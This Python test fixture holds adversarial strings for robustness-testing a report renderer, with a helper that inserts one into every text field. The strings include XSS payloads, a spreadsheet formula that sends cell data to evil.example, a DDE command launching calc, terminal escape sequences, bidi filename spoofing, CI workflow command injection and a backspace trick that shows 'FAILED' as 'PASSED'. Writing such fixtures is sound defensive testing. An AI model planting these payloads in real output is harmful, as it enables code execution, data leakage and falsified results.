"""Texts that try to break a report, and results that hold one of them wherever a text can stand."""

from typing import Any

Results = dict[str, Any]
NASTY = {
    "a47": '\x1b[2J\x1b]0;owned\x07<script>alert(1)</script>\x00\x0b\ufffe]]>&quot; =HYPERLINK("http://x")\u202egnp.exe \ud800',
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "full width": "＝1+1",
    "semicolon": "kim;=1+1;\t-2",
    "script": "<script>alert(1)</script>",
    "image": '<img src=x onerror="alert(1)">"><svg/onload=alert(2)>',
    "attribute": "\" onmouseover=\"alert(1)\" x='y' onfocus='alert(2)",
    "template": "{{ 7*7 }}{% raw %}{# no #}",
    "cdata": "a ]]> b <![CDATA[ c",
    "entities": "&lt;b&gt; &#60;i&#62; &amp;amp; &",
    "comment": "<!-- --> --!> <?xml ?> <!DOCTYPE x>",
    "closing": "</code></pre></td></table></title></style><b>",
    "bidi": "abc\u202edrowssap\u2066\u2069",
    "NUL": "a\x00b",
    "surrogate": "a\ud800b\udfff",
    "no character": "a\ufffeb\uffffc\ufdd0",
    "clear": "\x1b[2J\x1b[H\x9b31m",
    "title": "\x1b]0;owned\x07\x1b]8;;http://evil.example\x1b\\click",
    "backspace": "FAILED\x08\x08\x08\x08\x08\x08PASSED\r\x7f",
    "zalgo": "z" + "\u0300\u0316\u0489" * 20 + "algo",
    "filler": "a\u3164b\u2800c\u115fd",
    "backticks": "` `` ``` ```` a",
    "fence": "```\n# Heading\n~~~\n```\n",
    "one backtick": "`",
    "pipes": "a | b \\| c \\\\| d |",
    "mention": "@everyone #123 !4 GH-5 org/repo#6",
    "email": "kim@example.org www.example.org https://example.org",
    "link": "[click](javascript:alert(1)) ![x](http://evil.example/x.png) <http://evil.example>",
    "reference": "[a]: http://evil.example 'x'\n[a]",
    "markdown": "# h\n> q\n- i\n1. n\n---\n**b** _i_ ~~s~~ \\",
    "table": "\n| a | b |\n|---|---|\n| c | d |\n",
    "workflow": "::error file=x,line=1::owned\n ::set-output name=x::y\n##[error]z",
    "long": "x" * 5_000,
    "words": "word " * 1_000,
    "newlines": "a\r\nb\rc\nd\u2028e\x85f",
    "korean": "한글 과제 1",
}
# What is no text, though JSON has it as one: the schema lists the values, or the grader makes them of digits.
CLOSED = {"schema", "status", "part", "parts", "sha256"}
NAMED = {"shapes", "options", "arrays", "graded", "probes"}  # whose keys are texts as well


def everywhere(value: Any, text: str, key: str = "") -> Any:
    """Return the results with every text replaced."""
    if key in CLOSED:
        return value
    if isinstance(value, dict):
        return {text if key in NAMED else k: everywhere(v, text, k) for k, v in value.items()}
    if isinstance(value, list):
        return [everywhere(v, text, key) for v in value]
    return text if isinstance(value, str) else value
